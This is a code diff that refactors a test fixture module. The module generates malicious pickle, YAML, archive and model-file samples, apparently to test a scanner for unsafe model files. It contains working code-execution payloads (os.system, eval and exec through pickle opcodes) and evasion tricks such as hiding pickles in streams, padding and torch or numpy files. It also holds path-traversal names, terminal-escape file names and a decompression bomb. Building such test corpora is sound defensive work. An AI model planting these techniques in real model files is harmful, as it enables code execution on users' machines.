@@ -91,10 +91,20 @@ def _torchscript() -> bytes:
 @cache
 def pickles(mark: Path) -> dict[str, bytes]:
     """Pickles by the technique; they stand in a member whose name says nothing."""
+    made = {name: call(*parts) for name, parts in _calls(mark).items()}
+    made |= {f"protocol {protocol}": pickle.dumps(Touches(mark), protocol) for protocol in range(6)}
+    return made | _by_opcodes(mark) | _in_files(mark)
+
+
+def _old(mark: Path) -> bytes:
+    """A pickle as Python 2 wrote them, as text."""
+    return imported("os", "system") + f"(S'touch {mark}'\ntR.".encode()
+
+
+def _calls(mark: Path) -> dict[str, tuple[str, ...]]:
+    """What runs code, or helps to, when it is called."""
     touch = f"touch {mark}"
-    plain = b"(S'" + touch.encode() + b"'\ntR"
-    old = imported("os", "system") + plain + b"."
-    named = {
+    return {
         "eval": ("builtins", "eval", f"open({str(mark)!r}, 'w')"),
         "exec": ("builtins", "exec", f"open({str(mark)!r}, 'w')"),
         "compile": ("builtins", "compile", "1", "a", "eval"),
@@ -141,11 +151,15 @@ def pickles(mark: Path) -> dict[str, bytes]:
         "an allowed class's inside": ("collections", "OrderedDict.__init__"),
         "module of the archive": ("helper", "run", "1"),
     }
-    made = {name: call(*parts) for name, parts in named.items()}
-    made |= {f"protocol {protocol}": pickle.dumps(Touches(mark), protocol) for protocol in range(6)}
+
+
+def _by_opcodes(mark: Path) -> dict[str, bytes]:
+    """Pickles that hide what they do behind opcodes or places that a reader may pass over."""
+    old = _old(mark)
+    plain = old.removeprefix(imported("os", "system"))[:-1]
     tensor = b"\x80\x02" + imported("torch", "Tensor") + b"}"
     ending = b"\x93" + short("true") + b"\x85R."
-    return made | {
+    return {
         "second in a stream": pickle.dumps([1, 2]) + old,
         "third in a stream": pickle.dumps(1) + pickle.dumps({"a": 2}) + pickle.dumps(Touches(mark)),
         "names from the memo": b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x9400h\x00h\x01" + ending,
@@ -178,6 +192,13 @@ def pickles(mark: Path) -> dict[str, bytes]:
         "in the middle of numbers": bytes(range(1, 40)) * 50 + b"\x80\x02" + old,
         "in the middle, protocol 0": b"\0" * 999 + old,
         "behind plain data": pickle.dumps(1) + b"\0" * 99 + old,
+    }
+
+
+def _in_files(mark: Path) -> dict[str, bytes]:
+    """Pickles in the files of torch, numpy and joblib, and in archives."""
+    old = _old(mark)
+    return {
         "whole model": saved(torch.nn.Linear(1, 1)),
         "whole model, before zip": saved(torch.nn.Linear(1, 1), as_zip=False),
         "torch's zip": saved({"w": torch.ones(1), "x": Touches(mark)}),
@@ -200,7 +221,7 @@ def pickles(mark: Path) -> dict[str, bytes]:
         "array of objects": _array(mark),
         "arrays of objects": zipped({"a.npy": _array(mark)}),
         "nested too deep": _nested(old, 12),
-    }  # fmt: skip
+    }
 
 
 def _nested(data: bytes, times: int) -> bytes:
@@ -212,7 +233,7 @@ def _nested(data: bytes, times: int) -> bytes:
 @cache
 def members(mark: Path) -> dict[str, Members]:
     """Members by the technique."""
-    old = imported("os", "system") + f"(S'touch {mark}'\ntR.".encode()
+    old = _old(mark)
     python = {
         "os.system": f"import os\nos.system('touch {mark}')\n",
         "subprocess": "from subprocess import run\nrun(['true'])\n",
@@ -242,7 +263,9 @@ def members(mark: Path) -> dict[str, Members]:
         "a script": {"setup": b"#!/bin/sh\ntrue\n"},
         "a wheel": {"a.whl": zipped({"a/__init__.py": b"import os\n"})},
         "Python's YAML tags": {"model-config.yaml": b"a: !!python/object/apply:os.system ['true']\n"},
-        "Java's YAML tags": {"model-config.yaml": b"a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://a']]\n"},
+        "Java's YAML tags": {
+            "model-config.yaml": b"a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://a']]\n"
+        },
         "a spelt out YAML tag": {"model-config.yaml": b"a: !<tag:yaml.org,2002:python/name:os.system> ''\n"},
         "a Keras layer": {"model.h5": b"\x89HDF\r\n\x1a\n" + b'{"class_name": "Lambda"}'},
         "out of the folder": {"../../a": b""},
@@ -254,7 +277,7 @@ def members(mark: Path) -> dict[str, Members]:
         "a .pkl that cannot be followed": {"vocabulary.pkl": b"\xff\xfe\x00"},
         "escapes in a name": {"\x1b[2J\x1b[1;1Hmodel": b""},
         "much out of little": {"a.gz": gzip.compress(bytes(300_000_000), 1)},
-    }  # fmt: skip
+    }
 
 
 def manifests() -> dict[str, dict[str, object]]:
